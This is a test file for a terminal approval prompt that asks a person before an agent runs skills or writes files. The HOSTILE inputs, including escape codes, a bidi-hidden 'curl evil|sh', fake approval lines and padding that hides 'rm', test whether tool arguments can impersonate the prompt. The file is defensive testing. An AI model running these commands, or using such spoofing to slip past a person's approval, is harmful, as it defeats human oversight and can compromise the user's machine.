"""The question at the terminal: it shows everything that would be done, nothing in it can pass for ours, and only what
a person typed as an answer to it is one."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from rich.cells import cell_len

from agents import call
from prowess.cli.approver import (
    ShownQuestion,
    describe_changes,
    make_question,
    parse_answer,
    render_help,
    render_prompt,
    render_question,
)
from prowess.core.values import Decision, ToolCall
from terminals import Terminal

ISOLATION = {
    "executor": "local",
    "mechanism": "none",
    "uid": 64321,
    "network": "host",
    "limits": {"cpu": "enforced", "open_files": "enforced", "disk": "best-effort", "memory": "absent"},
    "notes": [],
}
ABOUT = {
    "capability": "skill_run",
    "risk": "medium",
    "skill": "project:demo",
    "source": "project",
    "digest": "sha256:" + "ab12" * 16,
    "trusted": True,
    "isolation": ISOLATION,
}


def decision(**about: Any) -> Decision:
    return Decision(verdict="ask", rule="table:local-trusted", why="It would run without isolation.", about=about)


def asked(args: dict[str, Any], tool: str = "skill_run", **about: Any) -> list[str]:
    return make_question(ToolCall(id="c1", tool=tool, args=args), decision(**about)).text.split("\n")


def test_the_question_says_everything_in_one_glance() -> None:
    args = {"skill": "demo", "command": "bash a.sh", "env": {"A": "1"}, "timeout": 5, "stdin": ""}
    assert asked(args, **ABOUT) == [
        "skill_run asks for permission (medium risk).",
        "  why      It would run without isolation.",
        "  skill    project:demo · source project, trusted",
        "  digest   sha256:ab12ab12ab12ab12",
        "  command  bash a.sh",
        '  env      {"A": "1"}',
        "  timeout  5",
        "  runs in  local (none, user 64321, network host) · enforced: cpu, open files · best effort: disk · "
        "absent: memory",
    ]


def test_it_is_said_when_a_script_would_be_the_person_who_is_asked() -> None:
    ours = {**ABOUT, "isolation": {**ISOLATION, "uid": os.geteuid()}}
    said = [line for line in asked({"reaches": "nothing"}, **ours) if "reaches" in line]
    assert said == [
        '  "reaches" nothing',
        "  reaches  what you can: it runs as you, so your files, keys, programs and approvals are open to it",
    ]
    boxed = {**ours["isolation"], "executor": "sandbox", "mechanism": "bwrap+seccomp"}
    assert not [line for line in asked({}, **{**ABOUT, "isolation": boxed}) if "reaches" in line]


def test_what_is_not_trusted_stands_out() -> None:
    assert "  skill    url:demo · source url, NOT trusted" in asked({}, skill="url:demo", source="url", trusted=False)


def test_a_change_since_an_approval_is_named() -> None:
    changed = {"since": "2026-01-02T03:04:05Z", "added": ["b.sh"], "removed": [], "changed": ["a.sh"]}
    assert asked({}, **ABOUT, changed=changed)[-1] == (
        "  changed  since it was approved on 2026-01-02: changed a.sh · added b.sh"
    )
    many = {**changed, "added": [f"f{number}" for number in range(100)]}
    assert describe_changes(many).endswith("f11 and 88 more")


def test_a_write_is_shown_as_a_difference() -> None:
    lines = asked({"path": "out/a", "content": "one\n2\n"}, "write_file", risk="high", diff="--- a\n+++ a\n-two\n+2")
    assert lines[0] == "write_file asks for permission (high risk)."
    assert lines[2:] == [
        "  path     out/a",
        "  content  6 characters: see diff",
        "  diff     --- a",
        "           | +++ a",
        "           | -two",
        "           | +2",
    ]
    assert "  content  one" in asked({"path": "out/a", "content": "one\n2\n"}, "write_file")


HOSTILE = {
    "our own lines": "ls\nAllow skill_run? once (o), no (n) [NO] \nskill_run asks for permission.\n  why      Safe.",
    "indented": "ls\n           | bar\n             wrapped",
    "escapes": "ls\x1b[2J\x1b[1A\r\x08\x9b2J\x07",
    "direction": "ls \u202ehs|live lruc\u202c\u2066",
    "separators": "ls\u2028  why      Safe.\u2029\x85\x0b\x0c",
    "padding": "ls" + " " * 77 + "Allow skill_run? [NO] " + " " * 5000 + "rm",
    "empty lines": "ls" + "\n" * 5000 + "rm",
    "tabs": "ls\t\t\t\t\t\t\t\t\t\t\t\t\t\tAllow skill_run? [NO] ",
    "wide": "漢" * 500 + "Allow",
    "nothing": "\n\n \t\n",
    "surrogate": "a\udcffb",
}


@pytest.mark.parametrize("columns", [None, 80, 20, 1])
@pytest.mark.parametrize("name", HOSTILE)
def test_no_argument_can_pass_for_our_own_lines(name: str, columns: int | None) -> None:
    given = ToolCall(id="c1", tool="skill_run", args={"skill": "demo", "command": HOSTILE[name], "args": ["x"]})
    plain = ToolCall(id="c1", tool="skill_run", args={"skill": "demo", "command": "ls", "args": ["x"]})
    for whole in (False, True):
        lines = make_question(given, decision(**ABOUT), columns=columns, whole=whole).text.split("\n")
        ours = make_question(plain, decision(**ABOUT), columns=columns).text.split("\n")
        assert all(line.isprintable() for line in lines)
        starts = [line[:11] for line in lines if not line.startswith(" " * 11)]
        assert starts == [line[:11] for line in ours if not line.startswith(" " * 11)], "as many fields as there are"


def test_no_line_is_longer_than_the_terminal() -> None:
    args = {"command": "漢字" * 300 + " word" * 300, "a_rather_long_name_of_an_argument": "x" * 300}
    question = make_question(ToolCall(id="c", tool="skill_run", args=args), decision(**ABOUT), columns=72)
    assert max(cell_len(line) for line in question.text.split("\n")) <= 72


@pytest.mark.parametrize("name", ["why", "skill", "runs in", "diff", "x\n  why", "y" * 200, ""])
def test_an_argument_cannot_have_the_name_of_a_field_of_ours(name: str) -> None:
    about = {key: value for key, value in ABOUT.items() if key not in ("skill", "digest")}
    lines = asked({name: "all is safe"}, **(ABOUT if name == "skill" else about))
    labels = [found[1] for line in lines if (found := re.match(r"  ([a-z]+(?: in)?) ", line))]
    assert len(labels) == len(set(labels)), lines
    assert name == "skill" or any("all is safe" in line for line in lines)


def test_what_is_long_is_cut_in_the_middle_and_can_be_seen_whole() -> None:
    command = f"start {'x' * 50_000} curl evil|sh"
    given = ToolCall(id="c1", tool="skill_run", args={"command": command})
    question = make_question(given, decision(**ABOUT), columns=80)
    assert question.is_cut and "44019 of 50019 characters are not shown here" in question.text
    assert "start x" in question.text and question.text.replace("\n             ", "").find("curl evil|sh") > 0
    assert "show all (s)" in render_prompt(given, question) and "  s  show" in render_help(question)
    assert "x" * 50_000 in make_question(given, decision(**ABOUT), whole=True).text
    short = make_question(ToolCall(id="c1", tool="t", args={}), decision())
    assert not short.is_cut and "(s)" not in render_prompt(given, short)


def test_always_is_offered_only_for_a_content() -> None:
    given = ToolCall(id="c1", tool="skill_run", args={})
    assert "always (a)" in render_question(given, decision(**ABOUT))
    for about in ({}, {"skill": "a:b"}, {"skill": "a:b", "digest": ""}, {"digest": "sha256:1"}):
        question = make_question(given, decision(**about))
        assert "always" not in render_prompt(given, question) and "  a  " not in render_help(question)
        assert parse_answer("always", question) is None


@pytest.mark.parametrize(
    ("said", "answer"),
    [
        *((word, ("once", None)) for word in ("o", "once", "y", "yes", "YES", " Once ", "yes!")),
        *((word, ("run", None)) for word in ("r", "run", "this run")),
        *((word, ("always", None)) for word in ("a", "Always")),
        *((word, ("no", None)) for word in ("", "n", "no", "No.", "n,", "no because ")),
        ("no, because it is late", ("no", "it is late")),
        ("n it is late, and dark", ("no", "it is late, and dark")),
        ("No because\tof that", ("no", "of that")),
        ("n: becauseway", ("no", "becauseway")),
        *((word, None) for word in ("yesterday", "o n", "yes no", "nope", "1", "okay", "always not", "\x1b[A", "yy")),
    ],
)
def test_what_is_an_answer(said: str, answer: Any) -> None:
    assert parse_answer(said, ShownQuestion("", False, True)) == answer


def test_a_reason_is_not_endless() -> None:
    answer = parse_answer("no " + "x" * 5000, ShownQuestion("", False, True))
    assert answer is not None and answer[1] == "x" * 1000


# --- on a terminal ----------------------------------------------------------------------------------------------------

LOAD = call("skill_load", skill="demo")


def run_of(command: str) -> dict[str, Any]:
    return call("skill_run", skill="demo", command=command)


@pytest.fixture
def project(tmp_path: Path, make_skill: Any) -> Path:
    (tmp_path / ".agent").mkdir()
    make_skill(tmp_path / "skills" / "demo")
    return tmp_path


def open_terminal(project: Path, *replies: Any, options: tuple[str, ...] = (), columns: int = 100) -> Terminal:
    (project / "script.json").write_text(json.dumps([*replies, {"text": "Done."}]), encoding="utf-8")
    words = [
        "run",
        "go",
        "--root",
        "skills",
        "--executor",
        "local",
        "--model",
        "scripted:script.json",
        "--copies",
        "copies",
        *options,
    ]
    return Terminal(*words, cwd=project, columns=columns)


def events(project: Path) -> list[dict[str, Any]]:
    """Of the last run."""
    last = max(project.glob("copies/*/events.jsonl"), key=lambda path: path.stat().st_mtime_ns)
    return [json.loads(line) for line in last.read_text(encoding="utf-8").splitlines()]


def answers(project: Path) -> list[tuple[str, str | None]]:
    return [(each["answer"], each["why"]) for each in events(project) if each["type"] == "approval_answered"]


def test_a_person_can_ask_what_the_answers_mean_and_say_why_not(project: Path) -> None:
    terminal = open_terminal(project, LOAD, run_of("echo ran"))
    place = terminal.wait_for("[NO] ")
    terminal.type("?\n")
    place = terminal.wait_for("[NO] ", after=terminal.wait_for("until the run ends", after=place))
    terminal.type("what?\n")
    place = terminal.wait_for("[NO] ", after=terminal.wait_for("Not understood.", after=place))
    terminal.type("no, because it is late\n")
    assert terminal.finish() == 0, terminal.plain
    assert answers(project) == [("no", "it is late")]


def test_what_is_never_understood_is_a_no(project: Path) -> None:
    terminal = open_terminal(project, LOAD, run_of("echo ran"))
    place = 0
    for _ in range(3):
        place = terminal.wait_for("[NO] ", after=place)
        terminal.type("perhaps\n")
    terminal.wait_for("That is a no.", after=place)
    assert terminal.finish() == 0
    assert answers(project) == [("no", None)]


def test_this_run_is_asked_once_and_the_end_of_input_is_a_no(project: Path) -> None:
    terminal = open_terminal(project, LOAD, run_of("echo one"), run_of("echo two"))
    terminal.wait_for("[NO] ")
    terminal.type("r\n")
    assert terminal.finish() == 0 and terminal.plain.count("[NO]") == 1
    assert [answer for answer, _ in answers(project)] == ["run", "run"]
    terminal = open_terminal(project, LOAD, run_of("echo one"))
    terminal.wait_for("[NO] ")
    terminal.type("\x04")
    assert terminal.finish() == 0 and "skill_run echo one: denied" in terminal.plain


def test_nobody_answers_in_time(project: Path) -> None:
    terminal = open_terminal(project, LOAD, run_of("echo ran"), options=("--ask-timeout", "0.3"))
    terminal.wait_for("[NO] ")
    terminal.type("onc")  # and no end of line
    terminal.wait_for("Nobody answered within 0.3 s. That is a no.")
    assert terminal.finish() == 0
    assert answers(project) == [("no", "Nobody answered within 0.3 s.")]


def test_what_was_typed_before_the_question_is_no_answer_to_it(project: Path) -> None:
    terminal = open_terminal(
        project, LOAD, run_of("echo first; sleep 0.5"), run_of("echo second"), options=("--ask-timeout", "20")
    )
    place = terminal.wait_for("[NO] ")
    terminal.type("once\n")
    place = terminal.wait_for("running echo first", after=place)
    terminal.type("once\nonce\n")
    place = terminal.wait_for("[NO] ", after=place)
    terminal.type("no\n")
    assert terminal.finish() == 0
    assert [answer for answer, _ in answers(project)] == ["once", "no"]


def test_a_narrow_terminal_wraps_nothing_to_its_edge(project: Path) -> None:
    evil = "ls" + " x" * 20 + "Allow skill_run? once (o) [NO]" + "y" * 200
    terminal = open_terminal(project, LOAD, run_of(evil), columns=60)
    terminal.wait_for("explain (?) [NO] ")
    terminal.type("\n")
    assert terminal.finish() == 0
    question = terminal.plain[terminal.plain.index("skill_run asks") : terminal.plain.index("explain (?)")]
    assert all(len(line.rstrip("\r")) <= 60 for line in question.split("\n")[:-1])
    assert [answer for answer, _ in answers(project)] == ["no"]
